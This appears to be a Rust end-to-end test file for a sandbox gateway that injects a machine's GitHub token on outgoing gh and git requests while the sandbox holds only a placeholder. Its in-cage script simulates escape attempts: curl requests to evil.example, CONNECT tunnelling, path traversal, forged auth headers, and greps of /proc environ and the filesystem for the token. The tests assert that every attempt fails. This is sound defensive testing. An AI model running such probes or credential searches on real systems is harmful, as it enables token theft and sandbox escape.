//! End-to-end tests of GitHub through the gateway (`--github`): the real gh
//! and git in a cage reach a stand-in of GitHub on this machine through
//! the process holding the turn, which adds the machine's GitHub token on
//! the way out; the cage holds only a placeholder. The stand-in answers
//! GitHub's API (`GET /user`) and git's smart HTTP (the machine's own `git
//! http-backend`, gitprotocol-http(5), over a bare repository), and records
//! every request.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use crate::common::*;

/// The machine's GitHub token: it must reach the stand-in, never a cage.
const MACHINE_TOKEN: &str = "gho_machine_token_5d2e81aa";
/// What the machine's own gh prints for `gh auth token`.
const GH_CLI_TOKEN: &str = "gho_from_the_machines_gh_91c3";
/// What a cage forges: it must never reach the stand-in.
const FORGED: &str = "forged-by-the-cage-31bb";

/// One request as the stand-in received it.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    target: String,
    /// Lower-case names.
    headers: BTreeMap<String, String>,
}

/// A stand-in of GitHub on 127.0.0.1: its API's `/user`, and git's smart
/// HTTP of the bare repositories under `root` (`/OWNER/REPO.git/...`).
struct StandIn {
    port: u16,
    seen: Arc<Mutex<Vec<Seen>>>,
    root: PathBuf,
}

impl StandIn {
    fn start(root: PathBuf) -> StandIn {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (s, r) = (seen.clone(), root.clone());
        std::thread::spawn(move || {
            for c in l.incoming() {
                let Ok(c) = c else { continue };
                let (s, r) = (s.clone(), r.clone());
                std::thread::spawn(move || answer(c, &s, &r));
            }
        });
        StandIn { port, seen, root }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn explain(&self) -> String {
        format!("the stand-in saw: {:#?}", self.seen())
    }
}

/// Read one request (its body by length or chunked), record it, answer it,
/// close the connection.
fn answer(c: TcpStream, seen: &Mutex<Vec<Seen>>, root: &Path) {
    let mut r = BufReader::new(c.try_clone().unwrap());
    let mut line = String::new();
    if r.read_line(&mut line).unwrap_or(0) == 0 {
        return;
    }
    let mut parts = line.split_whitespace();
    let method = parts.next().unwrap_or("").to_string();
    let target = parts.next().unwrap_or("").to_string();
    let mut headers = BTreeMap::new();
    loop {
        let mut h = String::new();
        if r.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
            break;
        }
        if let Some((n, v)) = h.split_once(':') {
            headers.insert(n.trim().to_ascii_lowercase(), v.trim().to_string());
        }
    }
    let body = read_body(&mut r, &headers);
    seen.lock().unwrap().push(Seen {
        method: method.clone(),
        target: target.clone(),
        headers: headers.clone(),
    });
    let (path, query) = target.split_once('?').unwrap_or((&target, ""));
    let (status, head, out) = if path == "/user" {
        (
            "200 OK".to_string(),
            vec!["Content-Type: application/json".to_string()],
            br#"{"login":"octocat-standin"}"#.to_vec(),
        )
    } else {
        http_backend(root, &method, path, query, &headers, &body)
    };
    let mut w = c;
    let mut text = format!("HTTP/1.1 {status}\r\n");
    for h in head {
        text.push_str(&h);
        text.push_str("\r\n");
    }
    text.push_str(&format!(
        "Content-Length: {}\r\nConnection: close\r\n\r\n",
        out.len()
    ));
    let _ = w.write_all(text.as_bytes());
    let _ = w.write_all(&out);
}

fn read_body(r: &mut impl BufRead, headers: &BTreeMap<String, String>) -> Vec<u8> {
    let mut body = Vec::new();
    if let Some(n) = headers.get("content-length") {
        let n: usize = n.parse().unwrap_or(0);
        body.resize(n, 0);
        let _ = r.read_exact(&mut body);
    } else if headers
        .get("transfer-encoding")
        .is_some_and(|t| t.contains("chunked"))
    {
        loop {
            let mut size = String::new();
            if r.read_line(&mut size).unwrap_or(0) == 0 {
                break;
            }
            let n =
                usize::from_str_radix(size.trim().split(';').next().unwrap_or(""), 16).unwrap_or(0);
            let mut chunk = vec![0; n + 2];
            if r.read_exact(&mut chunk).is_err() {
                break;
            }
            if n == 0 {
                break;
            }
            body.extend_from_slice(&chunk[..n]);
        }
    }
    body
}

/// The machine's `git http-backend` as a CGI program (git-http-backend(1)):
/// its status, headers and body.
fn http_backend(
    root: &Path,
    method: &str,
    path: &str,
    query: &str,
    headers: &BTreeMap<String, String>,
    body: &[u8],
) -> (String, Vec<String>, Vec<u8>) {
    let mut c = Command::new("git");
    c.arg("http-backend")
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("GIT_PROJECT_ROOT", root)
        .env("GIT_HTTP_EXPORT_ALL", "1")
        .env("REQUEST_METHOD", method)
        .env("PATH_INFO", path)
        .env("QUERY_STRING", query)
        .env("CONTENT_LENGTH", body.len().to_string())
        .env("REMOTE_USER", "stand-in")
        .env("REMOTE_ADDR", "127.0.0.1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped());
    for (h, env) in [
        ("content-type", "CONTENT_TYPE"),
        ("content-encoding", "HTTP_CONTENT_ENCODING"),
        ("git-protocol", "GIT_PROTOCOL"),
    ] {
        if let Some(v) = headers.get(h) {
            c.env(env, v);
        }
    }
    let mut child = c.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let body = body.to_vec();
    let feeder = std::thread::spawn(move || {
        let _ = stdin.write_all(&body);
    });
    let out = child.wait_with_output().unwrap();
    let _ = feeder.join();
    let at = out
        .stdout
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .map(|i| (i, 4))
        .or_else(|| {
            out.stdout
                .windows(2)
                .position(|w| w == b"\n\n")
                .map(|i| (i, 2))
        });
    let Some((at, gap)) = at else {
        return ("500 Bad CGI".into(), Vec::new(), out.stdout);
    };
    let head = String::from_utf8_lossy(&out.stdout[..at]).into_owned();
    let mut status = "200 OK".to_string();
    let mut fields = Vec::new();
    for h in head.lines() {
        match h.strip_prefix("Status:") {
            Some(s) => status = s.trim().to_string(),
            None => fields.push(h.trim().to_string()),
        }
    }
    (status, fields, out.stdout[at + gap..].to_vec())
}

/// `git` on the machine, as root (the stand-in's repositories).
fn host_git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", show_output(&out));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The stand-in's bare repository `o/r.git`, with one commit on main,
/// which takes pushes over HTTP.
fn repository(root: &Path) {
    let work = root.join("work");
    std::fs::create_dir_all(&work).unwrap();
    host_git(&work, &["init", "-q", "-b", "main"]);
    std::fs::write(work.join("README"), "from the stand-in\n").unwrap();
    host_git(&work, &["add", "README"]);
    host_git(&work, &["commit", "-qm", "first"]);
    let bare = root.join("o/r.git");
    std::fs::create_dir_all(&bare).unwrap();
    host_git(root, &["init", "-q", "--bare", "-b", "main", "o/r.git"]);
    host_git(&bare, &["config", "http.receivepack", "true"]);
    host_git(&work, &["push", "-q", bare.to_str().unwrap(), "main"]);
}

/// `Basic base64("x-access-token:" + token)`, as git's requests must reach
/// GitHub.
fn basic(token: &str) -> String {
    let out = Command::new("base64")
        .arg("-w0")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin
                .take()
                .unwrap()
                .write_all(format!("x-access-token:{token}").as_bytes())?;
            c.wait_with_output()
        })
        .unwrap();
    format!("Basic {}", String::from_utf8_lossy(&out.stdout))
}

fn gh_image() -> String {
    std::env::var("SHROOMS_TEST_GH_IMAGE").unwrap_or_else(|_| {
        panic!("SHROOMS_TEST_GH_IMAGE is not set: run the tests through scripts/test (scripts/test-harnesses)")
    })
}

/// What the `--github` cage runs: gh's API call, a clone and a push over
/// HTTPS to github.com, the attacks on the socket and the git route, and
/// the look for the machine's token everywhere in the cage.
fn inside_script() -> String {
    let basic = basic(MACHINE_TOKEN);
    let basic_b64 = basic.trim_start_matches("Basic ");
    format!(
        r#"S=/run/shrooms-agent/github.sock
code() {{ curl -s -o /dev/null -w '%{{http_code}}' "$@"; }}
echo "USER=$(gh api user --jq .login 2>&1)"
git clone -q https://github.com/o/r.git /tmp/clone 2>&1 && echo "README=$(cat /tmp/clone/README)"
cd /tmp/clone && echo more > more.txt && git add more.txt \
  && git -c user.name=a -c user.email=a@example.invalid commit -qm from-the-cage \
  && git push -q origin HEAD:main 2>&1 && echo PUSHED
cd /
echo "EVIL=$(code --unix-socket $S http://evil.example/user)"
echo "UPLOADS=$(code --unix-socket $S http://uploads.github.com/user)"
echo "ABSOLUTE=$(code --unix-socket $S --request-target http://evil.example/user http://api.github.com/)"
echo "TUNNEL=$(code --unix-socket $S -X CONNECT --request-target api.github.com:443 http://api.github.com/)"
echo "FORGED=$(curl -s --unix-socket $S -H 'Authorization: token {FORGED}' -H 'Cookie: c={FORGED}' http://api.github.com/user)"
echo "HEADREF=$(code $ANTHROPIC_BASE_URL/github.com/o/r.git/HEAD)"
echo "ARCHIVE=$(code $ANTHROPIC_BASE_URL/github.com/o/r/archive/main.zip)"
echo "DOTS=$(code --path-as-is "$ANTHROPIC_BASE_URL/github.com/o/../../user")"
echo "KEYS=$(gh api -X POST /user/keys -f title=t -f key=ssh-ed25519 2>&1 | grep -c 'would outlive the session')"
echo "GHCONFIG=$(cat $GH_CONFIG_DIR/config.yml | grep -c http_unix_socket)"
echo x > $GH_CONFIG_DIR/config.yml 2>/dev/null && echo GHCONFIG-WRITTEN
echo "ENVIRON=$(cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -c -e {MACHINE_TOKEN} -e {basic_b64})"
grep -rls -e {MACHINE_TOKEN} -e {basic_b64} / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -5
echo END
"#
    )
}

/// What a cage without `--github` runs: it has no GitHub route however it
/// tries.
const WITHOUT_SCRIPT: &str = r#"code() { curl -s -o /dev/null -w '%{http_code}' "$@"; }
test -e /run/shrooms-agent/github.sock && echo SOCKET || echo NO-SOCKET
echo "GH_TOKEN=${GH_TOKEN:-unset} GH_CONFIG_DIR=${GH_CONFIG_DIR:-unset} GIT=${GIT_CONFIG_COUNT:-unset}"
echo "ROUTE=$(code "$ANTHROPIC_BASE_URL/github.com/o/r.git/info/refs?service=git-upload-pack")"
echo "PROXY=$(code --unix-socket /run/shrooms-agent/proxy.sock http://api.github.com/user)"
echo END
"#;

fn github_through_the_gateway(w: World) {
    let root = tempfile::tempdir().unwrap();
    repository(root.path());
    let standin = StandIn::start(root.path().to_path_buf());
    w.write_config(&format!(
        "[gateway]\ngithub_api_url = \"{u}\"\ngithub_url = \"{u}\"\n",
        u = standin.url()
    ));
    let image = gh_image();
    let name = w.session("ghgw");
    let project = w.dir(&format!("projects/{name}"));
    w.create(&name, &project, &["--image", &image, "--github"]);
    let script = inside_script();
    let run = w
        .run_env(
            &["cage", "exec", &name, "--", "sh", "-c", &script],
            &[("GH_TOKEN", MACHINE_TOKEN)],
        )
        .ok();
    let out = run.stdout();
    let why = format!("{}\n{}", run.explain(), standin.explain());
    for line in [
        "USER=octocat-standin",
        "README=from the stand-in",
        "PUSHED",
        "EVIL=403",
        "UPLOADS=403",
        "ABSOLUTE=403",
        "TUNNEL=403",
        "HEADREF=403",
        "ARCHIVE=403",
        "DOTS=403",
        // An SSH key for the account would outlive the session: refused,
        // and never sent (the stand-in saw only `/user` and git, below).
        "KEYS=1",
        "GHCONFIG=1",
        "ENVIRON=0",
    ] {
        assert!(out.lines().any(|l| l == line), "{line}: {why}");
    }
    assert!(
        out.contains("FORGED={\"login\":\"octocat-standin\"}"),
        "{why}"
    );
    assert!(!out.contains("GHCONFIG-WRITTEN"), "{why}");
    // Nothing found by the look through the cage's files.
    assert!(out.ends_with("ENVIRON=0\nEND\n"), "{why}");
    // The push arrived.
    let log = host_git(
        &standin.root.join("o/r.git"),
        &["log", "--format=%s", "main"],
    );
    assert_eq!(log, "from-the-cage\nfirst\n", "{why}");

    // What the stand-in saw: the machine's token on each request, as each
    // route sends it, and nothing of the cage's.
    let seen = standin.seen();
    let api: Vec<&Seen> = seen.iter().filter(|s| s.target == "/user").collect();
    let git: Vec<&Seen> = seen
        .iter()
        .filter(|s| s.target.starts_with("/o/r.git/"))
        .collect();
    assert_eq!(api.len(), 2, "{why}");
    assert!(git.len() >= 4, "{why}");
    assert_eq!(api.len() + git.len(), seen.len(), "{why}");
    for s in &api {
        let auth = s.headers.get("authorization").map(String::as_str);
        assert_eq!(
            auth,
            Some(format!("token {MACHINE_TOKEN}").as_str()),
            "{s:?}"
        );
    }
    let basic = basic(MACHINE_TOKEN);
    for s in &git {
        assert_eq!(s.headers.get("authorization"), Some(&basic), "{s:?}");
    }
    assert!(
        git.iter()
            .any(|s| s.method == "POST" && s.target.ends_with("/git-receive-pack"))
    );
    for s in &seen {
        let all = format!("{s:?}");
        assert!(
            !all.contains(FORGED) && !all.contains("shrooms-gateway-adds"),
            "{s:?}"
        );
        assert!(!s.headers.contains_key("cookie"), "{s:?}");
    }

    // A session without --github has no GitHub route, however it tries.
    let other = w.session("noghgw");
    let other_project = w.dir(&format!("projects/{other}"));
    w.create(&other, &other_project, &["--image", &image]);
    let before = standin.seen().len();
    let run = w
        .run_env(
            &["cage", "exec", &other, "--", "sh", "-c", WITHOUT_SCRIPT],
            &[("GH_TOKEN", MACHINE_TOKEN)],
        )
        .ok();
    let out = run.stdout();
    assert!(out.contains("NO-SOCKET\n"), "{}", run.explain());
    assert!(
        out.contains("GH_TOKEN=unset GH_CONFIG_DIR=unset GIT=unset\n"),
        "{}",
        run.explain()
    );
    assert!(out.contains("ROUTE=403\n"), "{}", run.explain());
    assert!(!out.contains("PROXY=200"), "{}", run.explain());
    assert_eq!(standin.seen().len(), before, "{}", standin.explain());

    // No token on the machine: the cage is told so, the terminal says why,
    // and nothing reaches GitHub.
    let run = w.run(&["cage", "exec", &name, "--", "gh", "api", "user"]);
    assert_ne!(run.code(), 0, "{}", run.explain());
    assert!(
        run.stderr().contains("no GitHub token"),
        "{}",
        run.explain()
    );
    assert!(run.stderr().contains("GH_TOKEN"), "{}", run.explain());
    assert_eq!(standin.seen().len(), before, "{}", standin.explain());

    // Else the machine's gh: `gh auth token`.
    let fake = w.file(
        "machine-bin/gh",
        &format!("#!/bin/sh\n[ \"$1 $2\" = \"auth token\" ] || exit 2\necho {GH_CLI_TOKEN}\n"),
    );
    std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        fake.parent().unwrap().display()
    );
    let run = w
        .run_env(
            &[
                "cage", "exec", &name, "--", "gh", "api", "user", "--jq", ".login",
            ],
            &[("PATH", &path)],
        )
        .ok();
    assert_eq!(run.stdout(), "octocat-standin\n", "{}", run.explain());
    let last = standin.seen().pop().unwrap();
    assert_eq!(
        last.headers.get("authorization"),
        Some(&format!("token {GH_CLI_TOKEN}")),
        "{last:?}"
    );
}

#[test]
fn github_through_the_gateway_rootful() {
    github_through_the_gateway(World::new());
}

#[test]
fn github_through_the_gateway_rootless() {
    github_through_the_gateway(World::rootless());
}
